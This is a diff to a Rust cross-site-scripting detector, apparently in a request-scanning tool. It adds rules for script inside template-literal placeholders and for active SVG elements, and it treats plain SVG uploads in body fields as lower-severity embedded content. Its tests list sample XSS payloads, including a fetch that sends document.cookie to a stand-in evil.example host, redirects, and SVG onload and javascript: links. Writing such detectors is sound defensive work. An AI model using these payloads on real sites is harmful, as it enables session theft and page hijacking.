@@ -13,11 +13,13 @@
 //! carry code samples, and those must not block; a value that is nothing *but* a dialog call
 //! (`confirm(1)`) is a probe. Likewise an element that embeds content or styles a document
 //! (inline `<svg>`, a video `<iframe>`, `<style>`, `<meta charset>`, `<link rel="stylesheet">`) is
-//! only Medium in a JSON text field, where rich text and e-mail HTML travel; what would run in it
-//! (a handler, a script URL) is a rule of its own.
+//! only Medium in a JSON text field, where rich text and e-mail HTML travel, and so is a whole SVG
+//! document in any body field (an icon upload); what would run in it (a handler, a script URL,
+//! `<foreignObject>`, an animation rewriting a link, an external `<use>`) is a rule of its own.
 
 use super::gate::{gated, in_sorted, lit, skip_space, skip_space_comments, skip_space_comments_back, starts_word, word_before};
 use super::{is_json_text, stronger, Check, Family, Hit, Rules, Subject, Trigger};
+use crate::fields::Part;
 use crate::finding::Severity::{Critical, High, Medium};
 
 /// Gate for `<`: a tag, end tag, comment or declaration starts (`a < b` and `<3` do not).
@@ -106,6 +108,17 @@ fn import_clause(b: &[u8], s: usize, e: usize) -> bool {
     starts_word(b, s, e) && matches!(b.get(skip_space(b, e)), Some(b'{' | b'*'))
 }
 
+/// Whether a value is a whole SVG document (an uploaded icon, a logo in a JSON or form field):
+/// an image unless a rule of its own finds script, a handler, a script URL or an active element
+/// in it, so its `<svg>` element alone is [`EMBEDDED`] content, not an injection.
+fn is_svg_document(text: &str) -> bool {
+    let t = text.trim();
+    // Before the `<svg>` element only a prolog, a doctype and comments (what editors write).
+    let Some(start) = t.find("<svg") else { return false };
+    let prolog = t.as_bytes()[..start].split(|&c| c == b'<').skip(1).all(|d| matches!(d.first(), Some(b'?' | b'!')));
+    (start == 0 || t.starts_with('<')) && prolog && t.ends_with("</svg>")
+}
+
 pub(crate) struct Xss {
     rules: Rules,
     /// Script that is an injection outside a JSON text field, where code samples do not travel.
@@ -129,7 +142,10 @@ impl Xss {
             (split_scheme.as_str(), Critical, 0.9, "script URL split by control characters"),
             (r#"<[a-z][^>]*?=[^>]*?\b(?:alert|prompt|confirm|eval|settimeout|setinterval|fetch|atob|execscript)\s*[(`]"#, High, 0.85, "script call in a tag attribute"),
             (r#"<\s*(?:[a-z0-9]+:)?(?:frame|frameset|object|embed|applet|base|import|isindex|xml|layer|ilayer|bgsound|portal|xss|handler|listener|vmlframe|stylesheet|transform)\b|<\?\s*(?:import|xml-stylesheet)\b"#, High, 0.85, "active HTML element"),
-            // Listed after the rule above, which wins a tie: see `EMBEDDED`.
+            // What makes an SVG image active besides script and handlers: HTML carried inside it,
+            // an animation that rewrites a link, a `<use>` that pulls in another document.
+            (r#"<\s*(?:[a-z0-9]+:)?foreignobject\b|<\s*(?:[a-z0-9]+:)?(?:animate|set)\b[^>]*?attributename\s*=\s*["'`]?\s*(?:xlink:)?href\b|<\s*(?:[a-z0-9]+:)?use\b[^>]*?href\s*=\s*["'`]?\s*(?:[a-z][a-z0-9+.-]*:|//)"#, High, 0.85, "active SVG element"),
+            // Listed after the rules above, which win a tie: see `EMBEDDED`.
             (r#"<\s*(?:[a-z0-9]+:)?(?:iframe|svg|math|style|template|animate|set|meta|link)\b"#, High, 0.85, EMBEDDED),
             // Elements whose content the parser reads as raw text: markup hidden inside them
             // re-parses into live tags (mutation XSS, `<noscript><p title="</noscript><img ...`).
@@ -162,6 +178,11 @@ impl Xss {
             // A function called by a tagged template instead of parentheses
             // (``[].sort.call`${alert}1` ``, ``Function`alert\x281\x29``` ``).
             (r"\.\s*(?:call|apply|bind)\s*`[^`]*`|\b(?:function|constructor)\s*`[^`]*`", High, 0.8, "function called through a template literal"),
+            // A template-literal placeholder that opens a dialog, evaluates code or reaches the
+            // cookie, the document or the page's location (`${alert(document.domain)}`): what a
+            // value echoed into a script's template string runs. Reading a property
+            // (`${window.location.origin}`, `${user.name}`) is a code sample's.
+            (r"\$\{[^{}]{0,100}?(?:\b(?:alert|prompt|confirm|eval)\s*[(`]|\bdocument\s*\.\s*(?:cookie|domain|write(?:ln)?\s*\()|\blocation(?:\s*\.\s*href)?\s*=[^=])[^{}]{0,100}\}", High, 0.85, "script in a template-literal placeholder"),
             (r"^\s*(?:alert|prompt|confirm|atob|btoa|eval)\s*(?:\([^()]{0,64}\)|`[^`]{0,64}`)\s*;?\s*$|^\s*(?:window\s*\.\s*)?print\s*\(\s*\)\s*;?\s*$", High, 0.75, "lone script call"),
             (r"\b(?:document|window|self|top|parent|frames|globalthis|this)\s*(?:/\*.*?\*/\s*)+[.\[]|\b(?:document|window)\s*\.\s*/\*", High, 0.8, "comment-obfuscated DOM access"),
             (r#"\b(?:self|top|parent|frames|globalthis|window|this|document)\s*\)?\s*\[\s*(?:["'`/]|[a-z_]+\s*\+)"#, High, 0.7, "obfuscated global object access"),
@@ -293,7 +314,7 @@ impl Check for Xss {
 
     fn check(&self, s: &Subject<'_>) -> Option<Hit> {
         let hit = self.rules.best_either(s.text, script_fold(s.text).as_deref());
-        if is_json_text(s) {
+        if is_json_text(s) || (s.part == Part::Body && is_svg_document(s.text)) {
             return hit.map(|h| if h.detail == EMBEDDED { h.at_most(Medium, 0.6) } else { h });
         }
         stronger(hit, self.strict_rules.best(s.text))
@@ -359,6 +380,28 @@ mod tests {
     }
 
     #[test]
+    fn script_in_template_literal_placeholders() {
+        use crate::fields::Part;
+        for v in ["${alert(document.domain)}", "x${confirm`1`}", "${ prompt(1) }", "${eval(atob('Z28oKQ=='))}", "${fetch('//evil.example/?c='+document.cookie)}", "${document.write('<b>x</b>')}", "${location='//evil.example'}", "a`;${top.location.href='//evil.example'}"] {
+            assert!(flags("attack.xss", v), "{v}");
+            assert!(flags_at("attack.xss", Part::Body, v), "{v} in a form");
+            assert!(flags_in_json("attack.xss", v), "{v} in a JSON text field");
+        }
+        for v in [
+            "Hello ${user.name}, your order ${order.id} shipped",
+            "const url = `${window.location.origin}/api/${id}`",
+            "${document.title} - ${site}",
+            "${location == 'eu' ? 'EUR' : 'USD'}",
+            "price: ${amount} (confirm before paying)",
+            "${alert_count} alerts",
+            "${APP_DOMAIN}/cookie-policy",
+        ] {
+            assert!(!any_flag_in_json(v), "{v}");
+            assert!(!flags("attack.xss", v), "{v} in a query");
+        }
+    }
+
+    #[test]
     fn dialogs_through_globals_or_as_values() {
         for v in ["top.alert(1)", "window.confirm`1`", "(alert)(1)", "[1].map(alert)", "onerror=alert;throw 1", "x='+localStorage.token"] {
             assert!(flags("attack.xss", v), "{v}");
@@ -379,6 +422,37 @@ mod tests {
             assert!(!flags("attack.xss", v), "{v}");
         }
         assert!(!any_flag_in_json("Call document.write(html) only before the page loads"), "a code sample in a JSON text field");
+    }
+
+    #[test]
+    fn an_svg_image_in_a_body_needs_script() {
+        use crate::fields::Part;
+        let upload = |v: &str| flags_at("attack.xss", Part::Body, v);
+        for v in [
+            "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 16 16\"><rect x=\"1\" y=\"1\" width=\"14\" height=\"14\" rx=\"3\"/><polyline points=\"4,8 7,11 12,5\" fill=\"none\"/></svg>",
+            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- Generator: Inkscape -->\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<svg width=\"40\" height=\"40\"><defs><linearGradient id=\"g\"><stop offset=\"0\" stop-color=\"#09f\"/></linearGradient><style>.a{fill:url(#g)}</style></defs><ellipse class=\"a\" cx=\"20\" cy=\"20\" rx=\"18\" ry=\"12\"/><text x=\"4\" y=\"24\">Logo</text><use href=\"#g\"/><animate attributeName=\"opacity\" from=\"0\" to=\"1\" dur=\"1s\"/></svg>",
+            "  <svg viewBox=\"0 0 2 2\"><a href=\"https://example.com/about\"><circle r=\"1\"/></a></svg>\n",
+        ] {
+            assert!(!upload(v), "{v}");
+            assert!(flags("attack.xss", v), "{v} in a URL");
+        }
+        for v in [
+            "<svg viewBox=\"0 0 8 8\" onload=\"go(1)\"><path d=\"M0 0h8\"/></svg>",
+            "<svg><script>go(1)</script><circle r=\"2\"/></svg>",
+            "<svg><a xlink:href=\"javascript:go(1)\"><rect width=\"9\"/></a></svg>",
+            "<svg><foreignObject width=\"9\" height=\"9\"><div xmlns=\"http://www.w3.org/1999/xhtml\">hi</div></foreignObject></svg>",
+            "<svg><a id=\"l\"><animate attributeName=\"href\" values=\"https://evil.example/\"/><text>x</text></a></svg>",
+            "<svg><set attributeName=\"xlink:href\" to=\"https://evil.example/\"/></svg>",
+            "<svg><use href=\"https://evil.example/sprite.svg#a\"/></svg>",
+            "<svg><use xlink:href=\"//evil.example/x.svg#x\"></use></svg>",
+            "<svg><circle r=\"1\"/></svg><img src=x>",
+            "<b>x</b><svg><circle r=\"1\"/></svg>",
+        ] {
+            assert!(upload(v), "{v}");
+        }
+        for v in ["<svg><foreignObject><iframe src=\"//evil.example\"></iframe></foreignObject></svg>", "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>"] {
+            assert!(flags_in_json("attack.xss", v), "{v}");
+        }
     }
 
     #[test]
